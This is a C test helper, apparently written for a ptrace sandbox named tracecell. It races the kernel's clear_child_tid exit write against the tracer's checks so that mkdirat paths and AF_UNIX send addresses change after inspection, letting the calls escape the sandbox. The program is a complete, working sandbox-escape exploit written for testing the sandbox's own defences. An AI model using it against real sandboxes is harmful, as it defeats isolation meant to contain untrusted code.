// exitwrite: memory the kernel writes when a task dies, while the tracer has
// the tree frozen for a checked call (integration/exitwrite_test.go).
//
// A process P2 made with clone(CLONE_VM|CLONE_CHILD_CLEARTID) shares this
// program's memory; its clear_child_tid points into what the next checked
// call reads. P2 arms a POSIX timer that sends it SIGKILL 20 us to 2 ms
// later and then waits. SIGKILL ends a ptrace-stopped task at once, so the
// freeze cannot hold it, and its exit (mm_release, kernel/fork.c) writes 4
// zero bytes at clear_child_tid because the mm is shared. Were that after
// the tracer's check and before the kernel's read, the call would act on
// other bytes than those checked.
//
//   exitwrite mkdirat BASE SBX OFF TRIES SECONDS
//       mkdirat(fd of BASE, "SBX/d/../d/../.../new"), the zeros at byte OFF:
//       the path becomes the first OFF bytes of SBX (a sibling outside).
//       Prints "escaped=N" (N: the try that made BASE/SBX[:OFF]) or
//       "escaped=no tries=N made=M" (M: tries whose mkdirat succeeded).
//   exitwrite sendmsg|sendmmsg INSIDE HOST TRIES SECONDS
//       a datagram to INSIDE (an AF_UNIX path) whose msghdr's msg_name is
//       at 0x100001000; the zeros on msg_name's low half make it
//       0x100000000, where HOST's address is. Prints "sent=N failed=M
//       errno=E" (E: the last failure's errno name, or none).
//   exitwrite sendto ADDR OFF TRIES SECONDS
//       sendto an AF_UNIX address ADDR held in shared memory, the zeros at
//       byte OFF of sun_path: "DIR/h.sockd/../sbx/in.sock" becomes
//       "DIR/h.sock". Prints as sendmsg does.
//
// With EXITWRITE_RESERVE set it first maps PROT_NONE memory over 7.5-8.5
// GiB, where tracecell keeps its path page, so that no copy can be made.
//
// Build: gcc -O2 -Wall -o exitwrite exitwrite.c
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "selfkill.h"

static char stk[65536] __attribute__((aligned(16)));
static int pfd[2];
static long delay_ns;

static int child(void *a) {
    char c = 1;
    if (selfkill_arm(delay_ns))
        syscall(SYS_exit, 1);
    syscall(SYS_write, pfd[1], &c, 1);
    for (;;)
        syscall(SYS_pause);
    return 0;
}

// killer starts P2 with its clear_child_tid at ctid and waits until its
// timer is armed. On a loaded machine the timer may fire before P2 says so
// (it is killed before its write): then the try is over, and -1 says so.
static pid_t killer(int i, void *ctid) {
    delay_ns = 20000 + (i % 100) * 20000; // 20 us .. 2 ms
    pid_t p = clone(child, stk + sizeof stk, CLONE_VM | CLONE_CHILD_CLEARTID | SIGCHLD, 0, 0, 0, ctid);
    if (p < 0) {
        perror("clone");
        exit(2);
    }
    for (;;) {
        struct pollfd pf = {pfd[0], POLLIN, 0};
        if (poll(&pf, 1, 10) == 1) {
            char c;
            if (read(pfd[0], &c, 1) != 1) {
                perror("read");
                exit(2);
            }
            return p;
        }
        if (waitpid(p, 0, WNOHANG) == p)
            return -1; // died before it wrote
    }
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static char path[4096] __attribute__((aligned(64)));

static int do_mkdirat(char **argv) {
    const char *base = argv[0], *sbx = argv[1];
    int off = atoi(argv[2]), tries = atoi(argv[3]);
    double end = now() + atof(argv[4]);
    int dfd = open(base, O_RDONLY | O_DIRECTORY);
    if (dfd < 0) {
        perror(base);
        return 2;
    }
    char d[4096], outside[4096], made[4096];
    snprintf(d, sizeof d, "%s/%s/d", base, sbx);
    mkdir(d, 0755);
    snprintf(outside, sizeof outside, "%s/%.*s", base, off, sbx);
    snprintf(made, sizeof made, "%s/%s/new", base, sbx);
    int i, ok = 0;
    for (i = 0; i < tries && now() < end; i++) {
        int n = snprintf(path, sizeof path, "%s/", sbx);
        while (n < 3900)
            n += snprintf(path + n, sizeof path - n, "d/../");
        snprintf(path + n, sizeof path - n, "new");
        pid_t p2 = killer(i, path + off);
        if (p2 < 0)
            continue;
        int r = mkdirat(dfd, path, 0755);
        waitpid(p2, 0, 0);
        struct stat st;
        if (stat(outside, &st) == 0) {
            printf("escaped=%d\n", i);
            return 0;
        }
        if (r == 0) {
            ok++;
            rmdir(made);
        }
    }
    printf("escaped=no tries=%d made=%d\n", i, ok);
    return 0;
}

static void mkaddr(struct sockaddr_un *a, const char *p) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    strncpy(a->sun_path, p, sizeof a->sun_path - 1);
}

static int do_send(int mmsg, char **argv) {
    const char *inside = argv[0], *host = argv[1];
    int tries = atoi(argv[2]);
    double end = now() + atof(argv[3]);
    char *reg = mmap((void *)0x100000000UL, 0x2000, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (reg != (void *)0x100000000UL) {
        perror("mmap");
        return 2;
    }
    mkaddr((void *)reg, host);             // what the kernel would use
    mkaddr((void *)(reg + 0x1000), inside); // what the tracer checks
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    static struct mmsghdr m;
    static char buf[] = "exitwrite";
    struct iovec iov = {buf, sizeof buf - 1};
    int sent = 0, failed = 0, err = 0, i;
    for (i = 0; i < tries && now() < end; i++) {
        memset(&m, 0, sizeof m);
        m.msg_hdr.msg_name = reg + 0x1000;
        m.msg_hdr.msg_namelen = sizeof(struct sockaddr_un);
        m.msg_hdr.msg_iov = &iov;
        m.msg_hdr.msg_iovlen = 1;
        pid_t p2 = killer(i, &m.msg_hdr.msg_name); // the pointer's low half (little-endian)
        if (p2 < 0)
            continue;
        int r = mmsg ? sendmmsg(s, &m, 1, 0) : sendmsg(s, &m.msg_hdr, 0);
        if (r < 0) {
            failed++;
            err = errno;
        } else {
            sent++;
        }
        waitpid(p2, 0, 0);
    }
    printf("sent=%d failed=%d errno=%s tries=%d\n", sent, failed,
           err == 0 ? "none" : err == EACCES ? "EACCES" : strerror(err), i);
    return 0;
}

// do_sendto: sendto with the sockaddr_un itself in shared memory; the zeros
// land in sun_path at OFF and cut the path there.
static struct sockaddr_un sa __attribute__((aligned(64)));

static int do_sendto(char **argv) {
    const char *addr = argv[0];
    int off = atoi(argv[1]), tries = atoi(argv[2]);
    double end = now() + atof(argv[3]);
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    int sent = 0, failed = 0, err = 0, i;
    for (i = 0; i < tries && now() < end; i++) {
        mkaddr(&sa, addr);
        pid_t p2 = killer(i, sa.sun_path + off);
        if (p2 < 0)
            continue;
        if (sendto(s, "exitwrite", 9, 0, (void *)&sa, sizeof sa) < 0) {
            failed++;
            err = errno;
        } else {
            sent++;
        }
        waitpid(p2, 0, 0);
    }
    printf("sent=%d failed=%d errno=%s tries=%d\n", sent, failed,
           err == 0 ? "none" : err == EACCES ? "EACCES" : strerror(err), i);
    return 0;
}

int main(int argc, char **argv) {
    if (getenv("EXITWRITE_RESERVE")) {
        // Take tracecell's path page range (8 GiB) before it is used, as
        // AddressSanitizer's shadow gap does: the page is off for the run.
        void *r = mmap((void *)0x1e0000000UL, 1UL << 30, PROT_NONE,
                       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_NORESERVE, -1, 0);
        if (r == MAP_FAILED) {
            perror("mmap reserve");
            return 2;
        }
    }
    if (pipe(pfd)) {
        perror("pipe");
        return 2;
    }
    if (argc == 7 && !strcmp(argv[1], "mkdirat"))
        return do_mkdirat(argv + 2);
    if (argc == 6 && (!strcmp(argv[1], "sendmsg") || !strcmp(argv[1], "sendmmsg")))
        return do_send(!strcmp(argv[1], "sendmmsg"), argv + 2);
    if (argc == 6 && !strcmp(argv[1], "sendto"))
        return do_sendto(argv + 2);
    fprintf(stderr, "usage: exitwrite mkdirat BASE SBX OFF TRIES SECONDS | exitwrite sendmsg|sendmmsg INSIDE HOST TRIES SECONDS | exitwrite sendto ADDR OFF TRIES SECONDS\n");
    return 2;
}
